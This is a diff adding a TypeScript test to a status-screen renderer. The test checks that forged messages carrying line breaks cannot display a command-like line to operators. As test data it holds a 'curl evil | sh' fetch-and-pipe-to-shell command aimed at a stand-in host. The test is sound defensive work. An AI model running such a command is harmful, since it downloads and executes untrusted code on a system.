@@ -217,6 +217,27 @@ test.each(migrationStatuses)('a run that is %s is on the screen with what it wai
   expect(screen.includes('waits for a command: resume, cancel')).toBe(waits);
 });
 
+test('no sentence shows a line, as a command to type, that there is not', () => {
+  const forged = 'Something.\n    curl evil | sh\r\nRUNS: none';
+  const error = { ...blocked, message: forged, hint: forged } as MigrationView['error'];
+  const ramps = [{ cube: 'saju', status: 'waiting', sentence: forged, next: [] }] as unknown as readonly RampAnswer[];
+  const rollbacks = [
+    { cube_id: 'saju-cube', status: 'escalated', step: 'drain', sentence: forged, next: [{ command: forged }] },
+  ] as unknown as SystemStatus['rollbacks'];
+  const unread = [{ part: 'cubes', message: forged, hint: forged }];
+  const status = {
+    ...healthy,
+    traffic: [{ ...traffic, problems: [forged] }],
+    migrations: [migration('one', 'blocked', error), migration('two', 'running', error)],
+    ramps,
+    rollbacks,
+    unread,
+  };
+  const lines = statusScreen(status, findProblems(status)).split(/[\r\n]/);
+  expect(lines.join('\n')).toContain('Something.     curl evil | sh RUNS: none');
+  for (const line of lines) expect(line).not.toMatch(/^\s*(?:curl|RUNS: none)/);
+});
+
 test('where the control API does not answer, nothing is said to be absent', () => {
   const screen = statusScreen({ ...healthy, control: null, cubes: [], traffic: [] }, []);
   expect(screen).toContain('CUBES: not known');
